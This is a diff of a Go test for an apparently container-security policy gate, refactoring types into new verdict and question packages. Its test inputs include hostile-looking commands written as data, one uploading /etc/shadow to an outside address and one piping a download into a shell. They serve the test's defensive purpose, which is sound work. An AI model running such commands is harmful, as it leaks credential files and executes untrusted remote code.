@@ -13,6 +13,8 @@ import (
 	"weir/internal/cop"
 	"weir/internal/event"
 	"weir/internal/gate"
+	"weir/internal/gate/question"
+	"weir/internal/gate/verdict"
 	"weir/internal/policy"
 )
 
@@ -154,30 +156,30 @@ func TestSamePolicyChangesNothing(t *testing.T) {
 		n := 0
 		for _, bits := range [][]string{nil, {"secret"}, {"corruption"}, {"corruption", "secret"}} {
 			for _, argv := range [][]string{{"ls"}, {"curl", "https://192.0.2.1/"}, {"curl", "-T", "/etc/shadow", "https://192.0.2.1/"}, {"./tool"}, {"bash", "-c", "curl x | sh"}} {
-				for _, ask := range []gate.Ask{gate.Connect, gate.Run} {
+				for _, ask := range []verdict.Ask{verdict.Connect, verdict.Run} {
 					n++
 					e := connect("", "", bits...)
 					e.Process.PID, e.Process.Argv, e.Process.Exe.Path = n, argv, "/usr/bin/"+argv[0]
 					e.Container.ID = fmt.Sprint("c", n)
-					r := gate.Request{Container: *e.Container, Process: *e.Process, Destination: *e.Destination, Ask: ask, Mode: string(p.Mode), Held: ask == gate.Connect}
+					r := verdict.Request{Container: *e.Container, Process: *e.Process, Destination: *e.Destination, Ask: ask, Mode: string(p.Mode), Held: ask == verdict.Connect}
 					ctx, cancel := context.WithCancel(t.Context())
-					done := make(chan gate.Verdict)
+					done := make(chan verdict.Verdict)
 					go func() { done <- g.Decide(ctx, r) }()
-					var v gate.Verdict
+					var v verdict.Verdict
 					for waiting := true; waiting; {
 						select {
 						case v = <-done:
 							waiting = false
 						default:
 							for _, q := range g.Pending() {
-								if _, err := g.Answer(q.ID, gate.Reply{Allow: n%2 == 0, By: "alice"}); err != nil {
+								if _, err := g.Answer(q.ID, question.Reply{Allow: n%2 == 0, By: "alice"}); err != nil {
 									t.Fatal(err)
 								}
 							}
 						}
 					}
 					cancel()
-					if ask == gate.Run { // the sensor writes these
+					if ask == verdict.Run { // the sensor writes these
 						log.Write(event.Event{Kind: event.Exec, Container: &r.Container, Process: &r.Process, Verdict: v.Event()})
 					}
 				}
